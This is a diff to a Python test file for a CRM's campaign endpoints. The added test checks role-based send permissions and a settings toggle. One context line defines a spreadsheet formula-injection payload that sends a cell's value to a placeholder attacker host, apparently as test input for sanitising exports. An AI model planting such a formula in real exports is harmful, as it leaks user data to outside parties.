@@ -18,7 +18,9 @@ from sqlalchemy import insert
 
 from crm_core.models import Campaign, CampaignRecipient, Client, Deal, Lead
 from crm_core.services.campaign_results import ATTRIBUTION_DAYS
-from tests.support.api import Api
+from gateway.keys import SETTINGS
+from gateway.settings import Settings
+from tests.support.api import Api, make_app
 
 T0 = datetime(2026, 11, 2, 9, tzinfo=UTC)
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -281,3 +283,16 @@ async def test_recipients_with_names_paged_by_keyset(api: Api) -> None:
     assert (await admin.get("/campaigns/1/results/recipients", status="x"))[0] == 422
     assert (await admin.get("/campaigns/1/results/recipients", after="abc"))[0] == 422
     assert (await api.as_("a1").get("/campaigns/1/results/recipients"))[0] == 404
+
+
+async def test_campaign_access_follows_the_setting(api: Api, aiohttp_client: Any) -> None:
+    assert (await api.as_("admin").get("/campaign-access"))[1]["may_send"] is True
+    assert (await api.as_("sup").get("/campaign-access"))[1]["may_send"] is True
+    status, a1 = await api.as_("a1").get("/campaign-access")
+    assert status == 200 and a1 == {"may_send": False, "managers_allowed": False}
+    assert (await api.anonymous().get("/campaign-access"))[0] == 401
+    app = make_app(api.db)
+    app[SETTINGS] = Settings(campaigns_managers_allowed=True)
+    allowed = Api(await aiohttp_client(app), api.db, api.users, api.tokens)
+    status, a1 = await allowed.as_("a1").get("/campaign-access")
+    assert status == 200 and a1 == {"may_send": True, "managers_allowed": True}
